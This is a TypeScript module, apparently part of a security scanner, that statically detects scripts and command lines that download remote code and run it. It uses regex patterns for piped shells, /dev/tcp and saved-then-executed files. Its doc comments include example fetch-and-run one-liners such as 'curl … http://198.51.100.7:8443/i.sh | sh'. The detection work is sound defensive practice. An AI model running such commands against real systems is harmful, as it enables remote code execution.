import { show } from '../show.ts';
import type { FetchAddress, Shown } from '../snapshot.ts';
import type { ByteText, NotShown } from '../text-kinds.ts';
import { asByteText, byteTextOf, shownBytes } from './byte-text.ts';
import { FETCHERS, isShell, LANGUAGES, SHELLS } from './program-names.ts';

/** What the text of a script or of a command line does, as far as its text says. It is never run. */
export interface ScriptFacts {
  readonly fetches: readonly FetchAddress[];
  readonly fetchesAndRuns: boolean;
  /** Absolute paths named, at most 200. */
  readonly paths: readonly Shown[];
}

const MAX_PATHS = 200;
const MAX_FETCHES = 100;
/** Longest text that is looked at, in bytes. */
const MAX_SCRIPT_BYTES = 256 * 1024;

const FETCHES = `(?:${FETCHERS.join('|')})`;
const LANGUAGE = `(?:${LANGUAGES.join('|')})[0-9.]*`;
const FETCHER = String.raw`(?:${FETCHES}|${LANGUAGE}|urllib[0-9.]*|urlopen|urlretrieve|requests\.get|/dev/tcp)`;
const SHELL = String.raw`(?:[\w./$\{\}-]{0,100}/)?(?:${SHELLS.join('|')}|busybox\s+(?:sh|ash)|${LANGUAGE})`;
const RUNNER = String.raw`(?:(?:sudo|nohup|exec|env|setsid|nice|ionice|timeout|command)(?:\s{1,9}(?:-\S{1,40}(?:\s{1,9}[\w.-]{1,30})?|\w{1,40}=\S{0,100}|\d\S{0,20})){0,5}\s{1,9}){0,4}`;

const URL = /\b(https?|ftps?|tftp):\/\/([^\s'"`<>|;()\\\0]{1,2000})/gi;
/** A fetcher with an address without a scheme: `curl -s 198.51.100.7:8443/i.sh`. */
const BARE =
  /(?<![\w.-])(curl|wget)((?:\s{1,9}-{1,2}[\w-]{0,40}(?:[= ][\w/][\w/.-]{0,100})?){0,12})\s{1,9}["']?((?:\d{1,3}(?:\.\d{1,3}){3}|(?:[a-z0-9-]{1,63}\.){1,8}[a-z]{2,24})(?::\d{1,5})?(?:\/[^\s'"|;&<>()\x60]{0,1000})?)(?=$|[\s'"|;&<>)\x60])/gi;
const HAS_FETCHER = new RegExp(String.raw`(?<![\w.-])${FETCHER}(?![\w])`);
const NAMES_FETCHER = new RegExp(FETCHES);
const PIPED = new RegExp(
  String.raw`(?<![\w.-])${FETCHES}\b[^\n;]{0,600}?\|&?\s{0,9}(?:(?:tee|cat|base64|gzip|gunzip|zcat|tr|sed|head|tail|openssl|xxd|rev)\b[^|\n;]{0,200}\|\s{0,9}){0,3}${RUNNER}(${SHELL})(?=$|[\s;&|)'"\x60])`,
  'g',
);
/** A program text among the arguments that runs what it reads. */
const RUNS_INPUT =
  /(?<![\w-])(?:eval|exec|source|system|popen|compile|subprocess|child_process|spawn|execSync|(?:ba|da|z|k|a)?sh)\b|[\s;&|'"]\.\s/;
const SUBSTITUTED = new RegExp(
  String.raw`(?:${SHELL}\s{1,9}(?:-\w{1,9}\s{1,9}){0,3}|eval\s+|source\s+|(?:^|[\s;&|])\.\s+|<<<\s*)["']?(?:\$\(|<\(|\x60)\s*(?:[^)\n]{0,200}[\s;&|(])?${FETCHES}\b`,
  'm',
);
const FROM_LANGUAGE =
  /(?:exec|eval|system|popen|subprocess\.\w+)\s*\(?[^\n]{0,200}(?:urlopen|urlretrieve|requests\.get|(?:LWP::[\w:]+|HTTP::Tiny)\s*(?:->|\()|file_get_contents\s*\(\s*['"]http)/;
const SAVED_AS = new RegExp(
  String.raw`(?:^|[\s;&|(\x60])${FETCHES}\b[^\n;|]{0,600}?(?:\s(?:-o|-O|--output|--output-document|-qO)[= ]?|\s>{1,2}\s*)["']?([^\s'"|;&>]{1,300})`,
  'gm',
);

const DEFAULT_PORTS: Readonly<Record<string, number>> = {
  http: 80,
  https: 443,
  ftp: 21,
  ftps: 990,
  tftp: 69,
};

/**
 * Facts of a text.
 *
 * @example scriptFacts(byteText('curl -fsSL http://198.51.100.7:8443/i.sh | sh')).fetchesAndRuns // true
 */
export function scriptFacts(text: ByteText): ScriptFacts {
  const code = codeOf(text);
  const fetches = fetchAddresses(code);
  return { fetches, fetchesAndRuns: runsWhatItFetches(code, fetches), paths: absolutePaths(code) };
}

/** Addresses that a text fetches from: of its facts these alone, at a fraction of the cost. */
export const fetchesOfText = (text: ByteText): readonly FetchAddress[] => fetchAddresses(codeOf(text));

const codeOf = (text: ByteText): string =>
  text
    .slice(0, MAX_SCRIPT_BYTES)
    .replace(/\\\r?\n/g, ' ')
    .split('\n')
    .filter((line) => !/^\s*#/.test(line))
    .join('\n');

/** Addresses that a fetcher is given. @param name of the fetcher @param args its words */
export const fetchesIn = (name: string, args: readonly string[]): FetchAddress[] =>
  fetchAddresses([name, ...args].join(' '));

function fetchAddresses(code: string): FetchAddress[] {
  const found = new Map<string, FetchAddress>();
  const take = (scheme: string, rest: string): void => {
    const address = toAddress(scheme, rest);
    if (address !== null && found.size < MAX_FETCHES) found.set(JSON.stringify(address), address);
  };
  // An address counts where a fetcher is named on the same line, or where it is handed on by a variable.
  const handsOn = HAS_FETCHER.test(code);
  // Most texts fetch nothing, and each line of each profile and unit is read.
  if (!handsOn && !/curl|wget/i.test(code)) return [];
  for (const line of code.split('\n')) {
    const assigned = /^\s*(?:export\s+|local\s+|readonly\s+)?\w+=|\bfor\s+\w+\s+in\b/.test(line);
    if (HAS_FETCHER.test(line) || (handsOn && assigned)) {
      for (const match of line.matchAll(URL)) take((match[1] ?? '').toLowerCase(), match[2] ?? '');
    }
    for (const match of line.matchAll(BARE)) take('http', match[3] ?? '');
  }
  return [...found.values()];
}

function toAddress(scheme: string, rest: string): FetchAddress | null {
  const match = /^(?:[^/?#@]*@)?(\[[0-9A-Fa-f:.]{2,45}\]|[^/?#:@]{1,253})(?::(\d{1,5}))?([/?][^#]*)?/.exec(
    rest,
  );
  const host = match?.[1] ?? '';
  const port = match?.[2] === undefined ? (DEFAULT_PORTS[scheme] ?? 0) : Number(match[2]);
  if (host === '' || host.startsWith('$') || port > 65_535) return null;
  // What a shell puts in is not known: the path ends there.
  const path = match?.[3]?.replace(/\$.*$/, '') ?? '/';
  return {
    scheme,
    host: shown(host.replace(/^\[|\]$/g, '').toLowerCase()),
    port,
    path: shown(path.startsWith('/') ? path : `/${path}`),
  };
}

function runsWhatItFetches(code: string, fetches: readonly FetchAddress[]): boolean {
  if (FROM_LANGUAGE.test(code)) return true;
  // All that follows needs a fetcher's name, and each line of each profile and unit is read.
  if (!NAMES_FETCHER.test(code)) return false;
  if (code.split('\n').some(isPiped) || SUBSTITUTED.test(code)) return true;
  const names = new Set<string>();
  for (const match of code.matchAll(SAVED_AS))
    if (match[1] !== undefined && match[1] !== '-') names.add(match[1]);
  // Saved under the name it has there: `wget URL; sh i.sh`.
  if (
    /(?<![\w.-])(?:wget|lwp-download|aria2c|axel|curl\b[^\n;|]{0,300}\s(?:-\w{0,9}O|--remote-name))\b/.test(
      code,
    )
  ) {
    for (const fetch of fetches) names.add(byteTextOf(fetch.path).split(/[?]/)[0]?.split('/').at(-1) ?? '');
  }
  return [...names].some((name) => name.length > 1 && isRun(code, name));
}

const isPiped = (line: string): boolean =>
  line.includes('|') &&
  [...line.matchAll(PIPED)].some((match) =>
    readsItsProgram(match[1] ?? '', line.slice(match.index + match[0].length)),
  );

/**
 * Whether an interpreter takes its program from what it reads. With a program or a module among its arguments it reads data: `curl … |
 * python3 -c 'json…'` is how a shop gets its prices.
 *
 * @param rest of the line behind its name
 */
function readsItsProgram(interpreter: string, rest: string): boolean {
  const shell = isShell(interpreter.split(/[\s/]/).at(-1) ?? '');
  let isOption = false;
  for (const [, word = ''] of rest.slice(0, 400).matchAll(/\s{1,9}([^\s;&|)]{1,200})/gy)) {
    if (/^--?$|^-[a-zA-Z]*s$/.test(word)) return true;
    if (shell ? /^-[a-zA-Z]*c$/.test(word) : /^-[a-zA-Z]*[ceErpn]$/.test(word)) return RUNS_INPUT.test(rest);
    if (!shell && /^-m/.test(word)) return false;
    const isValue = isOption;
    isOption = shell && /^[-+][a-z]*[oO]$/.test(word);
    if (isValue || /^[-+]/.test(word)) continue;
    return !/^[\w.~/]/.test(word) || /^(?:\d*[<>]|\/dev\/(?:stdin|fd\/0)|\/proc\/self\/fd\/0)/.test(word);
  }
  return true;
}

/** Whether a saved file is made executable, or begins a command, or is given to an interpreter. */
function isRun(code: string, name: string): boolean {
  const last = name.split('/').at(-1) ?? name;
  // A name of one letter stands for itself only with its folder.
  const base = last.length < 2 ? name : last;
  if (base.length < 2) return false;
  const file = String.raw`["']?(?:[^\s'"|;&]{0,200}/)?${base.replace(/[^\w]/g, '\\$&')}(?=$|[\s;&|)'"\x60])`;
  const started = new RegExp(
    String.raw`(?:^|[;&|(\x60]|\bthen\b|\bdo\b|\belse\b)\s*(?:${RUNNER}(?:(?:${SHELL}|source|\.)\s{1,9}(?:-\w{1,9}\s{1,9}){0,3})?)${file}`,
    'm',
  );
  const executable = new RegExp(
    String.raw`\bchmod\s{1,9}(?:-\w{1,9}\s{1,9}){0,3}(?:[0-7]{0,4}[1357][0-7]{0,3}|[ugoa]{0,4}\+\w{0,3}[xs]\w{0,3})\s{1,9}[^\n;|&]{0,300}${file}`,
  );
  // The fetch itself may name the file last: it has to be named again, so the command that saves it is no start.
  return started.test(code) || executable.test(code);
}

function absolutePaths(code: string): Shown[] {
  const found = new Set<string>();
  for (const match of code.matchAll(/(?<![\w.:/~$}*-])\/(?:[\w.+@%=,~-]+\/)*[\w.+@%=,~-]+/g)) {
    if (found.size >= MAX_PATHS) break;
    found.add(match[0]);
  }
  return [...found].map(shown);
}

/** Text of one character a byte becomes shown text; text that is no bytes (already decoded) is shown as it is. */
function shown(text: NotShown): Shown {
  for (let i = 0; i < text.length; i++) if (text.charCodeAt(i) > 0xff) return show(text);
  return shownBytes(asByteText(text));
}
